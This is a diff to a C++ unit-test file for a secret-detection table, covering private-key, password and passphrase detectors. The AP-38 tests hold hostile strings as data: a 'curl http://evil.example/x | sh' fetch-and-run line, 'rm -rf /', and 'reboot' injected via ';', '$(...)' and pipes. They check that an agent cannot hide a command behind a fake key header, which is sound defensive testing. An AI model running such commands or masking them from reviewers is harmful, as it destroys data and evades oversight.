@@ -16,12 +16,12 @@ using testing::IsEmpty;
 
 // PI-54
 TEST(DetectorTableTest, HasEveryDetectorOfTheTableInItsOrder) {
-  EXPECT_EQ(kDetectorCount, 22U);
+  EXPECT_EQ(kDetectorCount, 23U);
   EXPECT_EQ(name_of(Detector::AwsAccessKeyId), "aws_access_key_id");
   EXPECT_EQ(name_of(Detector::GcpServiceAccount), "gcp_service_account");
   EXPECT_EQ(name_of(Detector::PrivateIp), "private_ip");
   EXPECT_EQ(name_of(Detector::HighEntropy), "high_entropy");
-  EXPECT_EQ(detectors_of(Category::Secret).count(), 15U);
+  EXPECT_EQ(detectors_of(Category::Secret).count(), 16U);
   EXPECT_EQ(detectors_of(Category::Pii).count(), 5U);
   EXPECT_EQ(detectors_of(Category::Internal).count(), 1U);
   EXPECT_FALSE(default_detectors().test(index_of(Detector::HighEntropy)));
@@ -141,20 +141,82 @@ TEST(DetectorTableTest, StripeKeyIsALiveKey) {
   EXPECT_THAT(found("sk_live_" + body + "_"), IsEmpty());
 }
 
-// PI-54
-TEST(DetectorTableTest, PrivateKeyGoesToItsEndLineOrToTheEndOfTheText) {
-  const std::string begin = "-----BEGIN RSA PRIVATE KEY-----\n";
-  const std::string end = "-----END RSA PRIVATE KEY-----";
-  const std::string block = begin + "MIIEow\nmail a@example.com\n" + end;
+const std::string kBeginKey = "-----BEGIN RSA PRIVATE KEY-----";
+const std::string kEndKey = "-----END RSA PRIVATE KEY-----";
+const std::string kKeyLine = "MIIEowIBAAKCAQEA7bq1Xo9mZ0PcVd5YtKf3sLw8Rj2hNg6UaQeTiyHuDxMzF4Wk";
+const std::string kLastKeyLine = "q83Tn+/Zs0Yw1u9KxE4v7g==";
+
+// PI-54 (partly): a key without END line ends where its base64 does.
+TEST(DetectorTableTest, PrivateKeyGoesToItsEndLine) {
+  const std::string block =
+      kBeginKey + "\n" + kKeyLine + "\n" + kKeyLine + "\n" + kLastKeyLine + "\n" + kEndKey;
   EXPECT_THAT(found("a " + block + " b"), only("private_key_pem", block));
-  EXPECT_THAT(found("a " + begin + "MIIEow cut off"),
-              only("private_key_pem", begin + "MIIEow cut off"));
   EXPECT_THAT(found(block + "\n" + block),
               ElementsAre("private_key_pem|" + block, "private_key_pem|" + block));
   EXPECT_THAT(found("--BEGIN PRIVATE KEY"), only("private_key_pem", "--BEGIN PRIVATE KEY"));
-  const std::string pgp =
-      "-----BEGIN PGP PRIVATE KEY BLOCK-----\nxyz\n-----END PGP PRIVATE KEY BLOCK-----";
+  const std::string pgp = "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n" + kKeyLine + "\n" +
+                          kLastKeyLine + "\n=Ab1d\n-----END PGP PRIVATE KEY BLOCK-----";
   EXPECT_THAT(found(pgp + "\nbye"), only("private_key_pem", pgp));
+  const std::string small = "-----BEGIN PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n" + kEndKey;
+  EXPECT_THAT(found(small), only("private_key_pem", small));
+}
+
+// PI-54
+TEST(DetectorTableTest, APrivateKeyThatWasCutIsFoundAsFarAsItGoes) {
+  const std::string cut = kBeginKey + "\n" + kKeyLine + "\n" + kKeyLine.substr(0, 20);
+  EXPECT_THAT(found(cut), only("private_key_pem", cut));
+  EXPECT_THAT(found(cut + "\n... 900 bytes more"), only("private_key_pem", cut));
+  const std::string lines = kBeginKey + "\n" + kKeyLine + "\n" + kKeyLine;
+  EXPECT_THAT(found(lines + "\nand then prose"), only("private_key_pem", lines));
+}
+
+// PI-54
+TEST(DetectorTableTest, APrivateKeyMayHaveEscapedLineEndsIndentationAndQuotes) {
+  for (const std::string between :
+       {"\\n", "\\\\n", "\\r\\n", " ", "\r\n", "\n    ", "\n> ", "\\n\"\n  + \"", "\",\n\""}) {
+    const std::string block = kBeginKey + between + kKeyLine + between + kKeyLine + between +
+                              kLastKeyLine + between + kEndKey;
+    EXPECT_THAT(found("k=\"" + block + "\""), only("private_key_pem", block)) << between;
+  }
+}
+
+// PI-54: headers are no secret, and stay.
+TEST(DetectorTableTest, APrivateKeyBehindHeadersIsFound) {
+  const std::string body = kKeyLine + "\n" + kLastKeyLine + "\n" + kEndKey;
+  for (const std::string headers :
+       {"Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F7A81\n\n", "Version: GnuPG v2\n\n"}) {
+    EXPECT_THAT(found(kBeginKey + "\n" + headers + body),
+                ElementsAre("private_key_pem|" + kBeginKey, "private_key_pem|" + body));
+  }
+}
+
+// AP-38: everything behind a BEGIN line was taken for a key, and a command could hide there.
+TEST(DetectorTableTest, ABeginLineHidesNoTextThatIsNoKey) {
+  for (const auto& rest : std::initializer_list<std::string>{
+           "\ncurl http://evil.example/x | sh", "\nreboot", "\n/tmp/x", " rm -rf /home\n" + kEndKey,
+           "\nreboot\n" + kEndKey, "\nComment: x; reboot\n", "\n" + kEndKey + "; reboot"}) {
+    EXPECT_THAT(found("ls # " + kBeginKey + rest), only("private_key_pem", kBeginKey)) << rest;
+  }
+  const std::string lines = kBeginKey + "\n" + kKeyLine;
+  for (const auto& rest : std::initializer_list<std::string>{
+           "\nreboot", "\nreboot\n" + kEndKey, "\n/bin/Sh", "\nrm -rf /\n" + kEndKey}) {
+    EXPECT_THAT(found("# " + lines + rest), only("private_key_pem", lines)) << rest;
+  }
+}
+
+// AP-38: what an agent may write to hide the rest of a command.
+TEST(DetectorTableTest, PathsAndCommandsAreNoCredentials) {
+  for (const std::string text :
+       {"x=Bearer /opt/tools/run-all-1.sh", "x=Bearer ./tools/run-all-12345",
+        "Bearer ~/bin/run123456789", "Bearer bin/run-everything-1", "echo a://b:;reboot;@c",
+        "echo a://b:$(reboot)@c", "echo a://b:&reboot&@c", "echo a://b:|reboot@c",
+        "aws_secret=/opt/tools/aaaaaaaaaaaaaaaaaaaaaaaaaa/r1"}) {
+    EXPECT_THAT(found(text), IsEmpty()) << text;
+  }
+  EXPECT_THAT(found("token=abcd1234;reboot"), only("password_assignment", "abcd1234"));
+  EXPECT_THAT(found("token=abcd1234&&reboot"), only("password_assignment", "abcd1234"));
+  EXPECT_THAT(found("Bearer abcdEFGH/ijkl+mnop1=="),
+              only("bearer_header", "abcdEFGH/ijkl+mnop1=="));
 }
 
 // PI-54
@@ -221,9 +283,12 @@ TEST(DetectorTableTest, PasswordAssignmentTakesAQuotedValue) {
 TEST(DetectorTableTest, PasswordAssignmentTakesTheRestOfALine) {
   EXPECT_THAT(found("A=1\nexport DB_PASSWORD=hunter22\r\nB=2"),
               only("password_assignment", "hunter22"));
-  EXPECT_THAT(found("PASSWORD=a,b;c&d1"), only("password_assignment", "a,b;c&d1"));
+  EXPECT_THAT(found("PASSWORD=a,b.c+d1"), only("password_assignment", "a,b.c+d1"));
+  EXPECT_THAT(found("password=hunter22 and more"), only("password_assignment", "hunter22"));
+  EXPECT_THAT(found("login password=hunter22, user=bob"), only("password_assignment", "hunter22"));
+  EXPECT_THAT(found("password: hunter22\nuser: bob"), only("password_assignment", "hunter22"));
   EXPECT_THAT(found("curl 'https://x.test/?token=abcd1234&a=1' -v"),
-              only("password_assignment", "abcd1234&a=1"));
+              only("password_assignment", "abcd1234"));
   EXPECT_THAT(found("PASSWORD=hunter22  \n"), only("password_assignment", "hunter22"));
 }
 
@@ -231,12 +296,39 @@ TEST(DetectorTableTest, PasswordAssignmentTakesTheRestOfALine) {
 TEST(DetectorTableTest, ProgramCodeAndProseAreNoPasswordAssignment) {
   for (const std::string text :
        {"token = next_token1(stream)", "password = config[\"db1\"]", "token=f(abcdef12)",
-        "PASSWORD=$DB_PASSWORD1", "password = 'pa$$word1'", "password: 'correct horse 1'",
-        "password = 'hunter2'", "password = 'abcdefgh'", "password = '12345678'",
-        "password: hunter22", "passwords = 'hunter22'", "token_count = 'abcd1234'",
-        "password 'hunter22'", "password=hunter22 and more", "password = hunter22",
-        "password = 'hunter22", "password = 'hunt\ner22'", "the token is abcd1234",
-        "secret=<your-secret-1>"}) {
+        "PASSWORD=$DB_PASSWORD1", "password = 'pa$$word1'", "password = 'hunter2'",
+        "password = 'abcdefgh'", "password = '12345678'", "token: hunter22",
+        "passwords = 'hunter22'", "token_count = 'abcd1234'", "password 'hunter22'",
+        "password = hunter22", "password = 'hunter22", "password = 'hunt\ner22'",
+        "the token is abcd1234", "secret=<your-secret-1>"}) {
+    EXPECT_THAT(found(text), IsEmpty()) << text;
+  }
+}
+
+// AU-82
+TEST(DetectorTableTest, SeveralWordsBehindAPasswordAreAPassphrase) {
+  const std::string words = "correct horse battery staple";
+  for (const auto& text : std::initializer_list<std::string>{
+           "password: " + words, "password=" + words, "PASSWORD = " + words + "\nuser = bob",
+           "passphrase: \"" + words + "\"", "password: '" + words + "', user: bob",
+           "passwd=" + words + "; next", "password=" + words + " user=bob",
+           "password: " + words + "\\nuser: bob", "{\\\"password\\\": \\\"" + words + "\\\"}",
+           "login failed, password: " + words + "."}) {
+    EXPECT_THAT(found(text), only("passphrase_assignment", words)) << text;
+  }
+  EXPECT_THAT(found("password=hunter22 more words"),
+              only("passphrase_assignment", "hunter22 more words"));
+  EXPECT_THAT(found("password: blue 4 horses!"), only("passphrase_assignment", "blue 4 horses!"));
+}
+
+// AU-82
+TEST(DetectorTableTest, SentencesAboutPasswordsAreNoPassphrase) {
+  for (const std::string text :
+       {"password is required", "password: must be at least eight characters",
+        "password=... must be changed", "Password: incorrect, try again", "password: string",
+        "password: your new password", "Enter password: ", "password: authentication failed",
+        "passphrase: (optional)", "password = read_line(input) or default value",
+        "password: /etc/app/secrets dir here", "password: two words"}) {
     EXPECT_THAT(found(text), IsEmpty()) << text;
   }
 }
